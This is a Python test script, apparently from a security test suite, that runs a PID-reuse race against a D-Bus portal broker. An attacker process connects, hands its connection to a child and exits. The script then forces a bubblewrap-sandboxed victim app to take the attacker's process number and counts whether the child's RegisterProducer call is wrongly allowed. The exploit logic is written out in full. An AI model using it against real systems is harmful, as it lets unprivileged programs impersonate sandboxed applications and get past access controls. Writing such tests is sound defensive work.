#!/usr/bin/python3
"""T26: a process number that comes to mean another program. Usage: pid_reuse.py RACES RULES JAVA...

Runs in a PID namespace of its own, where the next number can be chosen. JAVA... is the command that starts the broker; RULES
is a file that lets org.example.Victim produce, and nobody else. Each race: an attacker connects, hands its connection to a
child and dies; a program in the victim's sandbox gets its number; the child calls. An answer other than "denied" means that
the child was taken for the victim.
"""
import collections
import os
import signal
import subprocess
import sys
import tempfile
import time

from portal import PRODUCER, Portal, report

ACCESS_DENIED = "org.freedesktop.DBus.Error.AccessDenied"
INFO = "[Application]\nname=org.example.Victim\n\n[Instance]\ninstance-id=1\n"
TRIES = 10
FIRST_NUMBER, NUMBERS_PER_RACE = 10_000, 100


def start_bus(folder):
    address = f"unix:path={folder}/bus"
    bus = subprocess.Popen(["dbus-daemon", "--session", "--nofork", "--nosyslog", "--nopidfile", "--print-address",
                            f"--address={address}"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    bus.stdout.readline()
    os.environ["DBUS_SESSION_BUS_ADDRESS"] = address
    return bus


def start_broker(command, rules):
    broker = subprocess.Popen([*command, f"--rules={rules}"], stdout=subprocess.PIPE)
    assert b"ready" in broker.stdout.readline()
    return broker


def sandbox_command(info, *command):
    return ["bwrap", "--ro-bind", "/usr", "/usr", "--symlink", "usr/bin", "/bin", "--symlink", "usr/lib", "/lib",
            "--symlink", "usr/lib64", "/lib64", "--dev", "/dev", "--proc", "/proc", "--ro-bind", info, "/.flatpak-info",
            "--die-with-parent", "--", *command]


def choose_next(number):
    with open("/proc/sys/kernel/ns_last_pid", "w", encoding="ascii") as last:
        last.write(str(number - 1))


def attack(bystander, number):
    """Connect with this number, hand the connection to a child, die. Returns the pipes to and from the child."""
    to_child, from_attacker = os.pipe(), os.pipe()
    choose_next(number)
    attacker = os.fork()
    if attacker == 0:
        portal = Portal()
        os.write(from_attacker[1], b"c")
        if os.fork() == 0:
            os.read(to_child[0], 1)
            answer = portal.ask(PRODUCER, "RegisterProducer", "a{sv}", [{}])
            os.write(from_attacker[1], (str(answer.error) if answer else "no answer").encode())
        os._exit(0)
    assert os.read(from_attacker[0], 1) == b"c"
    bystander.images()  # what the bus said of the connection before has reached the broker now
    os.waitpid(attacker, 0)
    assert attacker == number
    os.close(to_child[0])
    os.close(from_attacker[1])
    return to_child[1], from_attacker[0]


def victim_with(number, info):
    """Start the victim's sandbox again and again until its program has this number."""
    for _ in range(TRIES):
        choose_next(number - 1)  # for bwrap itself, whose child is the program
        victim = subprocess.Popen(sandbox_command(info, "sleep", "1000"))
        end = time.monotonic() + 1
        while time.monotonic() < end:
            if shows_sandbox(number):
                return victim
            time.sleep(0.001)
        victim.kill()
        victim.wait()
    raise AssertionError(f"the number {number} could not be had")


def shows_sandbox(number):
    try:
        with open(f"/proc/{number}/root/.flatpak-info", encoding="ascii") as info:
            return info.read() == INFO
    except OSError:
        return False


def victim_speaks(info):
    """The victim itself must not be refused, or nothing is shown."""
    code = ("from portal import PRODUCER, Portal\n"
            "print(Portal().ask(PRODUCER, 'RegisterProducer', 'a{sv}', [{}]).error)")
    folder = os.path.dirname(os.path.abspath(__file__))
    bus = os.path.dirname(info)
    command = sandbox_command(info, "/usr/bin/python3", "-B", "-c", code)
    command[1:1] = ["--ro-bind", folder, folder, "--bind", bus, bus]
    return subprocess.run(command, env={**os.environ, "PYTHONPATH": folder}, stdout=subprocess.PIPE,
                          check=True).stdout.decode().strip()


def main():
    races, rules, broker_command = int(sys.argv[1]), sys.argv[2], sys.argv[3:]
    answers = collections.Counter()
    with tempfile.TemporaryDirectory() as folder:
        info = os.path.join(folder, "info")
        with open(info, "w", encoding="ascii") as file:
            file.write(INFO)
        bus = start_bus(folder)
        broker = start_broker(broker_command, rules)
        speaks = victim_speaks(info)
        bystander = Portal()
        for race in range(races):
            number = FIRST_NUMBER + race * NUMBERS_PER_RACE
            to_child, from_child = attack(bystander, number)
            victim = victim_with(number, info)
            os.write(to_child, b"g")
            answers[os.read(from_child, 1000).decode()] += 1
            os.close(to_child)
            os.close(from_child)
            victim.kill()
            victim.wait()
        for process in (broker, bus):
            process.send_signal(signal.SIGTERM)
            process.wait()
    report(sent=races, answered=races - answers["no answer"], wrong=races - answers[ACCESS_DENIED],
           victim_speaks=speaks == "None", answers=dict(answers))


if __name__ == "__main__":
    main()
